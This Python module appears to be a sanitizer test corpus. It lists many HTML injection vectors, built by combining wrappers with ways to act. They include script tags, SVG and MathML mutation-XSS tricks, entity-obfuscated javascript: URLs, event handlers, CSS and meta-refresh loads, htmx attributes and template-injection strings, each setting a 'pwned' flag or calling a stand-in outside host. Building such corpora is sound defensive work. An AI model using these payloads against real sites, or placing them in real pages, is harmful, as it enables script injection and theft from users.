"""Ways in which foreign text tries to act in a page: each sets `pwned`, or asks for an address that is not ours.

Families of wrappings times ways to act, written from the HTML standard's own list of what loads and what runs.
"""

from __future__ import annotations

from html import escape

ACT = "window.pwned=1"
ELSEWHERE = "http://elsewhere.invalid/seen"
_RUNS = (
    "<script>{act}</script>",
    "<script src={url}></script>",
    "<scr<script>ipt>{act}</script>",
    "<SCRIPT\n>{act}</SCRIPT\t>",
    "<script type=module>{act}</script>",
    "<svg><script>{act}</script></svg>",
    "<svg><script href={url} /></svg>",
    "<svg onload={act}>",
    "<svg/onload={act}//",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><set onbegin={act} attributeName=x dur=1s>",
    "<svg><a><rect width=99 height=99 /><animate attributeName=href values=javascript:{act} /></a></svg>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg onload={act}&gt;&lt;/svg&gt;#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={act}>--></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><script>{act}</script></annotation-xml></math>",
    "<math href=javascript:{act}>press</math>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'></noscript>",
    "<template><script>{act}</script></template>",
    "<textarea><img title='</textarea><img src=x onerror={act}>'></textarea>",
    "<title><img title='</title><img src=x onerror={act}>'></title>",
    "<xmp><p title='</xmp><img src=x onerror={act}>'></xmp>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={act}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={act}>",
    "<!--><img src=x onerror={act}>-->",
    "<!--[if IE]><script>{act}</script><![endif]-->",
    "<![CDATA[<script>{act}</script>]]>",
    "<?xml-stylesheet href='javascript:{act}'?>",
    "<p>&lt;script&gt;{act}&lt;/script&gt;</p>",
    "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>",
    "<p style='background:url({url})'>x</p>",
    "<p style='behavior:url({url});-moz-binding:url({url})'>x</p>",
    "<p style=\"width:expression({act})\">x</p>",
    "<link rel=stylesheet href={url}>",
    "<link rel=preload as=script href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=dns-prefetch href=//elsewhere.invalid>",
    "<link rel=manifest href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{act}</script>'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href='{url}'>",
    "<base href=javascript:/><a href='//{act}'>press</a>",
    "<iframe src={url}></iframe>",
    "<iframe src=javascript:{act}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<frameset><frame src={url}></frameset>",
    "<object data={url}></object>",
    "<object data=javascript:{act}></object>",
    "<object type=text/html data='data:text/html,<script>{act}</script>'></object>",
    "<embed src={url}>",
    "<embed src=javascript:{act}>",
    "<applet code=x archive={url}></applet>",
    "<portal src={url}></portal>",
    "<form action={url}><button autofocus>press</button></form>",
    "<form id=f></form><button form=f formaction=javascript:{act}>press</button>",
    "<isindex action=javascript:{act} type=image>",
    "<input type=image src={url}>",
    "<keygen autofocus onfocus={act}>",
    "<body onload={act} background={url}>",
    "<html onmouseover={act}>",
    "<table background={url}><tr><td background={url}>x</td></tr></table>",
    "<plaintext><script>{act}</script>",
    "<div id=location><a id=location name=href href='{url}'>x</a></div>",
    "<a href=javascript:{act}>press</a>",
    "<a href=' &#1;javascript:{act}'>press</a>",
    "<a href='java&#10;script:{act}'>press</a>",
    "<a href='java&Tab;script:{act}'>press</a>",
    "<a href='&#x6a;avascript&colon;{act}'>press</a>",
    "<a href='data:text/html,<script>opener.pwned=1</script>' target=_blank>press</a>",
    "<a href='vbscript:{act}'>press</a>",
    "<a href=x ping={url}>press</a>",
    "<area href=javascript:{act}>",
    "<div hx-get='/sign-out' hx-trigger=load>x</div>",
    "<div data-hx-get='/sign-out' data-hx-trigger='load'>x</div>",
    "<div hx-on:load='{act}' hx-trigger=load>x</div>",
    "<div hx-on::after-settle='{act}'>x</div>",
    "<div hx-vals='js:{{x: {act}}}' hx-post='/sign-out' hx-trigger=load>x</div>",
    "<div hx-ext=x sse-connect='{url}'>x</div>",
    "<p data-pdf='{url}'>x</p>",
    "<p class='card' id='main'>x</p>",
)  # fmt: skip
_LOADS = (
    ("img", "src"), ("img", "srcset"), ("image", "href"), ("video", "src"), ("video", "poster"), ("audio", "src"),
    ("source", "src"), ("source", "srcset"), ("track", "src"), ("bgsound", "src"), ("layer", "src"), ("image", "xlink:href"),
)  # fmt: skip
_EVENTS = (
    ("img src=x", "onerror"), ("img src=/static/icons.svg", "onload"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("video autoplay muted", "onloadstart"), ("details open", "ontoggle"), ("input autofocus", "onfocus"),
    ("p tabindex=1 autofocus", "onfocus"), ("marquee", "onstart"), ("div style=animation-name:x", "onanimationstart"),
    ("p", "onpointerenter"), ("p", "onclick"), ("p", "ONCLICK"), ("p/", "onclick"), ("p contenteditable", "oninput"),
    ("body", "onhashchange"), ("body", "onpageshow"), ("p", "onscroll"), ("dialog open", "onclose"), ("svg", "onbegin"),
    ("p popover", "onbeforetoggle"), ("xss", "onfocusin"), ("p", "oncopy"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("object data=x", "onerror"), ("link rel=stylesheet href=x", "onerror"),
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, each a piece of HTML."""
    runs = [each.format(act=ACT, url=ELSEWHERE) for each in _RUNS]
    loads = [f"<{element} {attribute}={ELSEWHERE}>" for element, attribute in _LOADS]
    events = [f"<{element} {event}={ACT}>x" for element, event in _EVENTS]
    return [*runs, *loads, *events]


def texts() -> list[str]:
    """Words that would act where they are not escaped: in text, in an attribute, in a script, in a template."""
    return [
        f"<script>{ACT}</script>",
        f"<img src=x onerror={ACT}>",
        f'"><img src={ELSEWHERE} onerror={ACT}>',
        f"' onmouseover={ACT} autofocus onfocus={ACT} x='",
        f"</script><script>{ACT}</script>",
        f"</title></textarea></style><svg onload={ACT}>",
        f"${{{ACT}}}{{{{{ACT}}}}}{{% {ACT} %}}<%= {ACT} %>",
        f"javascript:{ACT}",
        escape(f"<script>{ACT}</script>"),
        "\u202egnp.exe\u2066 \u0000\u0007\x1b[2J",
    ]
